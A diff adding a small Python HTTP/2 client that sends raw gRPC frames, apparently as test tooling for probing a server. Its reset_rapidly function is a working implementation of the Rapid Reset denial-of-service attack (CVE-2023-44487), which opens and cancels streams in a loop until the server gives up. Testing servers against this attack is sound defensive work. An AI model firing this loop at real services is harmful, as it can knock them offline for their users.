@@ -1,0 +1,138 @@
+"""A client of a few lines of HTTP/2 (RFC 9113), to send what no gRPC library would."""
+
+import contextlib
+import socket
+import struct
+import time
+from dataclasses import dataclass
+
+_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
+_DATA, _HEADERS, _RST_STREAM, _SETTINGS, _PING, _WINDOW_UPDATE = 0, 1, 3, 4, 6, 8
+_END_STREAM, _ACK, _END_HEADERS = 0x1, 0x1, 0x4
+
+
+@dataclass(frozen=True, slots=True)
+class Answer:
+    """What came back on the stream before it ended, undecoded, and after how many seconds."""
+
+    headers: bytes
+    data: bytes
+    ended: bool
+    seconds: float
+
+    @property
+    def status(self) -> int | None:
+        """The `grpc-status`, which grpcio writes as a literal the first time on a connection."""
+        _, found, rest = self.headers.partition(b"grpc-status")
+        if not found:
+            return None
+        return int(rest[1 : 1 + rest[0]])
+
+
+def call(
+    address: str,
+    path: bytes,
+    message: bytes = b"",
+    *,
+    headers: tuple[tuple[bytes, bytes], ...] = (),
+    patience: float = 10.0,
+) -> Answer:
+    """Make one unary call on a connection of its own."""
+    started = time.monotonic()
+    with _connect(address, patience) as connection:
+        connection.sendall(
+            _PREFACE
+            + _frame(_SETTINGS, 0, 0, b"")
+            + _frame(_HEADERS, _END_HEADERS, 1, _block(address, path, headers))
+            + _frame(_DATA, _END_STREAM, 1, b"\0" + struct.pack(">I", len(message)) + message)
+        )
+        return _read(connection, started, patience)
+
+
+def reset_rapidly(address: str, path: bytes, *, times: int) -> int:
+    """Begin calls and cancel each at once (CVE-2023-44487); give how many could be sent."""
+    block = _block(address, path, ())
+    with _connect(address, 10.0) as connection:
+        connection.sendall(_PREFACE + _frame(_SETTINGS, 0, 0, b""))
+        for sent in range(times):
+            stream = 2 * sent + 1
+            try:
+                connection.sendall(
+                    _frame(_HEADERS, _END_HEADERS, stream, block)
+                    + _frame(_DATA, _END_STREAM, stream, bytes(5))
+                    + _frame(_RST_STREAM, 0, stream, (8).to_bytes(4))
+                )
+            except OSError:  # the server has had enough
+                return sent
+    return times
+
+
+def _connect(address: str, patience: float) -> socket.socket:
+    host, _, port = address.rpartition(":")
+    return socket.create_connection((host, int(port)), timeout=patience)
+
+
+def _block(address: str, path: bytes, headers: tuple[tuple[bytes, bytes], ...]) -> bytes:
+    fields = (
+        (b":method", b"POST"),
+        (b":scheme", b"http"),
+        (b":path", path),
+        (b":authority", address.encode()),
+        (b"te", b"trailers"),
+        (b"content-type", b"application/grpc"),
+    )
+    return b"".join(_literal(name, value) for name, value in (*fields, *headers))
+
+
+def _read(connection: socket.socket, started: float, patience: float) -> Answer:
+    received, blocks, data = b"", b"", b""
+    while time.monotonic() < started + patience:
+        try:
+            chunk = connection.recv(65536)
+        except OSError:
+            break
+        if not chunk:
+            break
+        received += chunk
+        while len(received) >= 9:
+            length = int.from_bytes(received[:3])
+            if len(received) < 9 + length:
+                break
+            kind, flags = received[3], received[4]
+            stream, payload = int.from_bytes(received[5:9]), received[9 : 9 + length]
+            received = received[9 + length :]
+            if kind == _SETTINGS and not flags & _ACK:
+                _acknowledge(connection, _SETTINGS, b"")
+            if kind == _PING and not flags & _ACK:
+                _acknowledge(connection, _PING, payload)
+            if stream != 1:
+                continue
+            blocks += payload if kind == _HEADERS else b""
+            data += payload if kind == _DATA else b""
+            is_reset = kind not in {_DATA, _HEADERS, _WINDOW_UPDATE}
+            if is_reset or (kind in {_DATA, _HEADERS} and flags & _END_STREAM):
+                return Answer(blocks, data, not is_reset, time.monotonic() - started)
+    return Answer(blocks, data, False, time.monotonic() - started)
+
+
+def _acknowledge(connection: socket.socket, kind: int, payload: bytes) -> None:
+    with contextlib.suppress(OSError):  # it may be closed already
+        connection.sendall(_frame(kind, _ACK, 0, payload))
+
+
+def _frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
+    return len(payload).to_bytes(3) + bytes([kind, flags]) + stream.to_bytes(4) + payload
+
+
+def _literal(name: bytes, value: bytes) -> bytes:
+    """A header field without indexing and without Huffman code (RFC 7541, 6.2.2)."""
+    return b"\0" + _length(len(name)) + name + _length(len(value)) + value
+
+
+def _length(number: int) -> bytes:
+    if number < 127:
+        return bytes([number])
+    encoded, number = bytes([127]), number - 127
+    while number >= 128:
+        encoded, number = encoded + bytes([number % 128 + 128]), number // 128
+    return encoded + bytes([number])
